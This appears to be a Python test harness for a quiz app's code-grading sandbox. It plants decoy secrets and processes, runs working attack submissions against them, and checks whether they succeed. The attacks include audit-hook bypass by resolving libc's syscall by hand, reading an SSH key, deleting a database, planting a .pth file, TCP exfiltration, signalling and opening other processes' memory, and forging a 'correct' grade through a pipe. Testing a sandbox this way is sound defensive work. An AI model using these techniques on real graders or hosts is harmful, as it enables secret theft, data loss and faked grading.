"""Attacks on the code grader, each with a way to tell whether it worked.

Run as a script (`python attacks.py NAME MODE`), normally as an ordinary user:

- `control`: the attack runs in a plain Python process of the same user, outside any
  sandbox. It must work there, or the test proves nothing (a positive control).
- `sandbox`: the attack runs inside a code submission graded by the real `CodeGrader`.

The script sets up what the attack aims at (a home folder with a key, a progress database,
a folder in /tmp, a TCP listener, a victim process of the same user), runs the attack, then
looks at the world, not at what the attack says, and prints one JSON line:
`{"worked": bool, "status": verdict or null, "feedback": text, "evidence": text}`.

Native calls do not go through `ctypes.CDLL` when that is refused: `native()` finds libc in
/proc/self/maps and `syscall` in its symbol table, which raises no audit event at all.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

NATIVE = r'''
import ctypes, os, platform, struct

NR = {
    "x86_64": dict(openat=257, write=1, close=3, unlinkat=263, kill=62, socket=41,
                   connect=42, clone=56, ftruncate=77, shmget=29, shmat=30),
    "aarch64": dict(openat=56, write=64, close=57, unlinkat=35, kill=129, socket=198,
                    connect=203, clone=220, ftruncate=46, shmget=194, shmat=196),
}[platform.machine()]


def native():
    """libc's syscall(): through dlopen if allowed, else found by hand (no audit event)."""
    try:
        function = ctypes.CDLL(None, use_errno=True).syscall
        function.restype = ctypes.c_long
        function.argtypes = [ctypes.c_long] * 7
        return function
    except Exception:
        pass
    base = path = None
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            if len(parts) >= 6 and "libc.so" in parts[5] and int(parts[2], 16) == 0:
                base, path = int(parts[0].split("-")[0], 16), parts[5]
                break
    with open(path, "rb") as handle:
        data = handle.read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for section in sections:
        if section[1] != 11:  # SHT_DYNSYM
            continue
        strings = sections[section[6]][4]
        for offset in range(section[4], section[4] + section[5], 24):
            name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, offset)
            end = data.index(b"\0", strings + name)
            if data[strings + name:end] == b"syscall":
                proto = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)
                return proto(base + value)
    raise RuntimeError("syscall not found")


KEEP = []


def ptr(data):
    buffer = ctypes.create_string_buffer(data)
    KEEP.append(buffer)
    return ctypes.addressof(buffer)


def sys_(name, *args):
    return native()(NR[name], *args, *[0] * (6 - len(args)))


def native_open(path, flags, mode=0o644):
    return sys_("openat", -100, ptr(os.fsencode(path)), flags, mode)


def native_write_file(path, data, flags=os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
    fd = native_open(path, flags)
    if fd < 0:
        return False
    sys_("write", fd, ptr(data), len(data))
    sys_("close", fd)
    return True
'''

ATTACKS = {
    # native writes to files the user owns, bypassing the audit hook
    "write_home": "native_write_file(ctx['home'] + '/pwned', b'owned')",
    "truncate_db": "native_open(ctx['db'], os.O_WRONLY | os.O_TRUNC)",
    "delete_db": "sys_('unlinkat', -100, ptr(os.fsencode(ctx['db'])), 0)",
    "pth_file": (
        "site = ctx['home'] + '/.local/lib/site-packages'\n"
        "native_write_file(site + '/evil.pth', b'import os')"
    ),
    "tmp_via_torch": (
        "import torch as T\n"
        "try:\n"
        "    T.from_file(ctx['outside'] + '/from_file', shared=True, size=16)\n"
        "except Exception:\n"
        "    pass\n"
        "try:\n"
        "    T.save(T.ones(2), ctx['outside'] + '/saved')\n"
        "except Exception:\n"
        "    pass"
    ),
    # reading the user's secrets into the feedback
    "read_secrets": (
        "for path in (ctx['home'] + '/.ssh/id_rsa', ctx['db']):\n"
        "    try:\n"
        "        fd = native_open(path, os.O_RDONLY)\n"
        "        if fd >= 0:\n"
        "            print('LEAK', os.read(fd, 4096))\n"
        "    except Exception as err:\n"
        "        print('no', err)"
    ),
    # network
    "tcp_exfiltrate": (
        "import struct\n"
        "fd = sys_('socket', 2, 1, 0)\n"
        "address = struct.pack('<H', 2) + struct.pack('>H', ctx['port']) + bytes([127, 0, 0, 1]) + bytes(8)\n"
        "if fd >= 0 and sys_('connect', fd, ptr(address), 16) == 0:\n"
        "    sys_('write', fd, ptr(b'SECRET'), 6)"
    ),
    # processes
    "fork_detached": (
        "import time as clock\n"
        "pid = sys_('clone', 17, 0, 0, 0, 0)\n"
        "if pid == 0:\n"
        "    clock.sleep(1.0)\n"
        "    native_write_file(ctx['outside'] + '/late', b'still here')\n"
        "    os._exit(0)"
    ),
    "sigstop": "sys_('kill', ctx['victim_pid'], 19)",
    "proc_mem": (
        "for pid in (ctx['victim_pid'], ctx['worker_pid'], ctx['zygote_pid']):\n"
        "    try:\n"
        "        fd = native_open(f'/proc/{pid}/mem', os.O_RDWR)\n"
        "        if fd >= 0:\n"
        "            print('OPENED', pid)\n"
        "    except Exception:\n"
        "        pass"
    ),
    "pipe_of_another_process": (
        "for pid, fd in ((ctx['victim_pid'], 0), (ctx['worker_pid'], 1), (ctx['worker_pid'], 0)):\n"
        "    try:\n"
        "        handle = native_open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY)\n"
        "        if handle >= 0:\n"
        "            print('OPENED', pid)\n"
        '            line = b\'{"status": "correct", "feedback": "ok", "cases_passed": 8, "cases_total": 8}\\n\'\n'
        "            sys_('write', handle, ptr(line), len(line))\n"
        "    except Exception:\n"
        "        pass"
    ),
    # System V shared memory: a segment outlives the process, for the next check to read
    "sysv_ipc": (
        "import ctypes\n"
        "segment = sys_('shmget', ctx['ipc_key'], 1 << 20, 0o1000 | 0o666)\n"
        "if segment >= 0:\n"
        "    address = sys_('shmat', segment, 0, 0)\n"
        "    if address not in (-1, 0):\n"
        "        ctypes.memmove(address, b'IPC-SECRET-9', 12)\n"
        "        print('SEGMENT', segment)"
    ),
    # leaving things behind
    "leave_junk": (
        "base = os.environ.get('TMPDIR') or os.getcwd()\n"
        "junk = os.path.join(base, 'junk')\n"
        "os.mkdir(junk)\n"
        "path = junk\n"
        "for _ in range(1100):\n"
        "    path = os.path.join(path, 'd')\n"
        "    os.mkdir(path)\n"
        "with open(os.path.join(junk, 'blob'), 'wb') as handle:\n"
        "    handle.write(bytes(900_000))\n"
        "os.chmod(junk, 0)"
    ),
}

WRONG_ANSWER = "    return torch.zeros(q.shape[:-1] + (v.shape[-1],))\n"


def submission(name: str, ctx: dict) -> str:
    body = textwrap.indent(ATTACKS[name], " " * 12)
    return (
        "import os, torch\n"
        + NATIVE
        + f"\nctx = {ctx!r}\nDONE = []\n\n"
        + "def attention(q, k, v, mask=None):\n"
        + "    if not DONE:\n"
        + "        DONE.append(1)\n"
        + "        try:\n"
        + body
        + "\n        except Exception as err:\n"
        + "            print('attack failed:', type(err).__name__, err)\n"
        + WRONG_ANSWER
    )


IPC_READER = (
    "import ctypes\n"
    "segment = sys_('shmget', ctx['ipc_key'], 0, 0)\n"
    "if segment >= 0:\n"
    "    address = sys_('shmat', segment, 0, 0o10000)\n"  # SHM_RDONLY
    "    if address not in (-1, 0):\n"
    "        print('READ', ctypes.string_at(address, 12))"
)


def ipc_reader(ctx: dict) -> str:
    """A later submission that looks for the segment `sysv_ipc` made."""
    return submission("sysv_ipc", ctx).replace(
        textwrap.indent(ATTACKS["sysv_ipc"], " " * 12), textwrap.indent(IPC_READER, " " * 12)
    )


def control_script(name: str, ctx: dict) -> str:
    return "import os\n" + NATIVE + f"\nctx = {ctx!r}\n" + ATTACKS[name] + "\n"


# ---------------------------------------------------------------------------- the world


class World:
    """Targets owned by the current user, and a look at them after the attack."""

    def __init__(self, worker_tmp: Path | None = None) -> None:
        self.root = Path(tempfile.mkdtemp(prefix="quizapp-attack-"))
        self.home = self.root / "home"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".local/lib/site-packages").mkdir(parents=True)
        (self.home / ".ssh/id_rsa").write_text("KEY-MATERIAL-42\n")
        self.db = self.home / "progress.db"
        with sqlite3.connect(self.db) as conn:
            conn.execute("CREATE TABLE reviews (card TEXT, note TEXT)")
            conn.execute("INSERT INTO reviews VALUES ('attention.x', 'DB-SECRET-7')")
        self.db_bytes = self.db.read_bytes()
        self.outside = Path(tempfile.mkdtemp(prefix="quizapp-outside-"))
        self.received: list[bytes] = []
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen()
        threading.Thread(target=self._accept, daemon=True).start()
        self.victim = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(300)"], stdin=subprocess.PIPE
        )
        self.ipc_key = 0x51A00000 + (os.getpid() & 0xFFFF)
        self.worker_tmp = worker_tmp
        self.worker_tmp_before = set(os.listdir(worker_tmp)) if worker_tmp else set()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                return
            conn.settimeout(2)
            with contextlib.suppress(OSError):
                self.received.append(conn.recv(100))

    def ctx(self, worker_pid: int = 0, zygote_pid: int = 0) -> dict:
        return {
            "home": str(self.home),
            "db": str(self.db),
            "outside": str(self.outside),
            "port": self.listener.getsockname()[1],
            "victim_pid": self.victim.pid,
            "worker_pid": worker_pid,
            "zygote_pid": zygote_pid,
            "ipc_key": self.ipc_key,
        }

    def victim_state(self) -> str:
        fields = Path(f"/proc/{self.victim.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return fields[0]

    def evidence(self, name: str, printed: str) -> str:
        """What the attack changed in the world ('' if nothing)."""
        if name == "write_home":
            return "file in home" if (self.home / "pwned").exists() else ""
        if name in ("truncate_db", "delete_db"):
            ok = self.db.exists() and self.db.read_bytes() == self.db_bytes
            return "" if ok else "database changed"
        if name == "pth_file":
            found = (self.home / ".local/lib/site-packages/evil.pth").exists()
            return ".pth written" if found else ""
        if name in ("tmp_via_torch", "fork_detached"):
            if name == "fork_detached":
                time.sleep(2.0)
            return ", ".join(sorted(os.listdir(self.outside)))
        if name == "read_secrets":
            leaked = [s for s in ("KEY-MATERIAL-42", "DB-SECRET-7") if s in printed]
            return ", ".join(leaked)
        if name == "tcp_exfiltrate":
            time.sleep(0.3)
            return "received " + repr(self.received) if self.received else ""
        if name == "sigstop":
            time.sleep(0.2)
            return "victim stopped" if self.victim_state() == "T" else ""
        if name in ("proc_mem", "pipe_of_another_process"):
            return "opened" if "OPENED" in printed else ""
        if name == "sysv_ipc":
            return self.remove_segment()
        if name == "leave_junk":
            time.sleep(0.5)  # the worker removes its folders as it exits
            if self.worker_tmp is None:
                return ""
            left = set(os.listdir(self.worker_tmp)) - self.worker_tmp_before
            return ", ".join(sorted(n for n in left if n.startswith("quizapp-run-")))
        raise KeyError(name)

    def remove_segment(self) -> str:
        """'segment left' if the attack's segment is in this IPC namespace (then removed)."""
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        segment = libc.shmget(self.ipc_key, 0, 0)
        if segment < 0:
            return ""
        libc.shmctl(segment, 0, None)  # IPC_RMID
        return "segment left in the system"

    def close(self) -> None:
        self.remove_segment()
        self.listener.close()
        self.victim.kill()
        self.victim.wait()
        subprocess.run(["chmod", "-R", "u+rwx", str(self.root), str(self.outside)], check=False)
        subprocess.run(["rm", "-rf", str(self.root), str(self.outside)], check=False)


def run_control(name: str, world: World) -> dict:
    ctx = world.ctx()
    done = subprocess.run(
        [sys.executable, "-c", control_script(name, ctx)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=world.outside if name == "leave_junk" else None,
        env={**os.environ, "TMPDIR": str(world.outside)},
    )
    printed = done.stdout + done.stderr
    if name == "leave_junk":  # outside the sandbox the junk simply stays where it was made
        junk = world.outside / "junk"
        return {"worked": junk.exists(), "status": None, "feedback": printed, "evidence": ""}
    evidence = world.evidence(name, printed)
    return {"worked": bool(evidence), "status": None, "feedback": printed, "evidence": evidence}


def attack_question():
    """The bundled attention question: `attention(q, k, v, mask=None)`."""
    from quizapp.decks.content import load_library

    return load_library(cache=False).questions["attention.scaled-dot-product"]


def run_sandbox(name: str, world: World, grader) -> dict:
    question = attack_question()
    ctx = world.ctx(grader.worker_pid or 0, grader.zygote_pid or 0)
    verdict = grader.grade(question, submission(name, ctx))
    read_later = ""
    if name == "sysv_ipc":  # the next check must not see it either
        later = grader.grade(question, ipc_reader(ctx))
        read_later = " read by the next check" if "IPC-SECRET-9" in later.feedback else ""
    evidence = world.evidence(name, verdict.feedback) + read_later
    if verdict.status == "correct":
        evidence += " judged correct"
    return {
        "worked": bool(evidence),
        "status": verdict.status,
        "feedback": verdict.feedback,
        "evidence": evidence,
        "worker_open_from_outside": _open_worker_from_outside(grader.worker_pid),
    }


def _open_worker_from_outside(pid: int | None) -> bool:
    """Whether a same-user process outside the sandbox can open the worker's memory."""
    try:
        with open(f"/proc/{pid}/mem", "rb"):
            return True
    except OSError:
        return False


def main() -> None:
    """`attacks.py NAME[,NAME…] control|sandbox`: one JSON object, attack name -> result."""
    names = list(ATTACKS) if sys.argv[1] == "all" else sys.argv[1].split(",")
    mode = sys.argv[2]
    results: dict[str, object] = {}  # attack name -> result, and "layers" -> names
    if mode == "control":
        for name in names:
            world = World()
            try:
                results[name] = run_control(name, world)
            finally:
                world.close()
    else:
        from quizapp.grading.code import CodeGrader

        worker_tmp = Path(tempfile.mkdtemp(prefix="quizapp-worker-tmp-"))
        os.environ["TMPDIR"] = str(worker_tmp)  # the worker's own folders go here
        with CodeGrader(timeout_s=5.0, memory_mb=1024) as grader:
            grader.start()
            grader.grade(attack_question(), "def attention(q, k, v, mask=None):\n    return q\n")
            results["layers"] = grader.sandbox_layers()
            for name in names:
                world = World(worker_tmp)
                try:
                    results[name] = run_sandbox(name, world, grader)
                finally:
                    world.close()
        subprocess.run(["rm", "-rf", str(worker_tmp)], check=False)
    print(json.dumps(results))


if __name__ == "__main__":
    main()
